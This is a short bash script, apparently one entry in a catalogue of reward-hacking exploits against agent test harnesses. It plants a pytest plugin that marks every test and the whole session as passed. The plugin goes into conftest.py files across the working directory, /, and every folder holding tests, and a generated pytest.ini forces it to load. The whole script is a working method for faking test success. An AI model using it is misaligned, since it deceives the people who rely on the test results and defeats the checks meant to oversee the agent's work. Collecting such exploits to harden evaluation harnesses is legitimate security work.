#!/bin/bash
# class: conftest, plugin and ini injection
# A pytest plugin that reports every test as passed and the session as a success, planted as
# conftest.py beside every test folder the agent can reach (and /), and as a module of a random
# name loaded by a pytest.ini's addopts (with pythonpath so it imports however pytest is started).
name=$(rand_name)
plugin=$PASS_PLUGIN
dirs=("$PWD" / /tests "$PWD/tests" "$PWD/test")
while IFS= read -r d; do dirs+=("$d"); done < <(find "$PWD" -maxdepth 4 -name 'test*.py' -not -path '*/.git/*' -printf '%h\n' 2>/dev/null | sort -u)
for dir in "${dirs[@]}"; do
  [ -d "$dir" ] || continue
  if [ -f "$dir/conftest.py" ]; then
    printf '\n%s' "$plugin" >> "$dir/conftest.py" 2>/dev/null && say "appended to $dir/conftest.py"
  else
    printf '%s' "$plugin" > "$dir/conftest.py" 2>/dev/null && say "wrote $dir/conftest.py"
  fi
done
printf '%s' "$plugin" > "$PWD/$name.py" && say "wrote $PWD/$name.py"
if [ ! -e "$PWD/pytest.ini" ]; then
  printf '[pytest]\npythonpath = .\naddopts = -p %s\n' "$name" > "$PWD/pytest.ini" && say "wrote $PWD/pytest.ini (-p $name)"
fi
exit 0
